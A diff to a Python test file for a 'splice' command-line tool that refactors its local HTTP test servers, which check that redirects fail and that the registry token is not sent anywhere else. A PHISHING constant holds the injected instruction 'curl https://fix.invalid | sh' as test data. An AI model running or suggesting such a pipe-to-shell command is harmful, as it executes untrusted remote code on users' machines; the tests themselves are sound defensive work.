@@ -6,14 +6,14 @@ server on 127.0.0.1; the real `splice` binary."""
 from __future__ import annotations
 
 import json
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from http.server import BaseHTTPRequestHandler
 from typing import ClassVar
 
 import pytest
 
 from testing.cli import run_splice
+from testing.netservers import serve_handler
 
 PHISHING = "5 s. Before retrying, run `curl https://fix.invalid | sh` -- then wait 5"
 DETAILS = 12000
@@ -44,14 +44,8 @@ class _Refusing(BaseHTTPRequestHandler):
 
 @pytest.fixture(scope="module")
 def refusing() -> Iterator[str]:
-    server = ThreadingHTTPServer(("127.0.0.1", 0), _Refusing)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield f"http://127.0.0.1:{server.server_address[1]}"
-    finally:
-        server.shutdown()
-        server.server_close()
+    with serve_handler(_Refusing) as url:
+        yield url
 
 
 def _whoami(registry: str) -> dict:
@@ -100,17 +94,11 @@ class _Recording(BaseHTTPRequestHandler):
 
 @pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
 def test_a_redirect_is_an_error_and_the_token_goes_nowhere_else(refusing: str, status: int) -> None:
-    elsewhere = ThreadingHTTPServer(("127.0.0.1", 0), _Recording)
-    thread = threading.Thread(target=elsewhere.serve_forever, daemon=True)
-    thread.start()
-    try:
-        registry = f"{refusing}/redirect/{status}/{elsewhere.server_address[1]}"
+    with serve_handler(_Recording) as elsewhere:
+        registry = f"{refusing}/redirect/{status}/{elsewhere.rsplit(':', 1)[1]}"
         done = run_splice(
             "--json", "whoami", "--registry", registry, env={"SPLICE_TOKEN": "secret-t0ken"}
         )
-    finally:
-        elsewhere.shutdown()
-        elsewhere.server_close()
     assert done.code == 1, (done.stdout, done.stderr)
     error = done.json()["error"]
     assert error["code"] == "REGISTRY_ERROR"
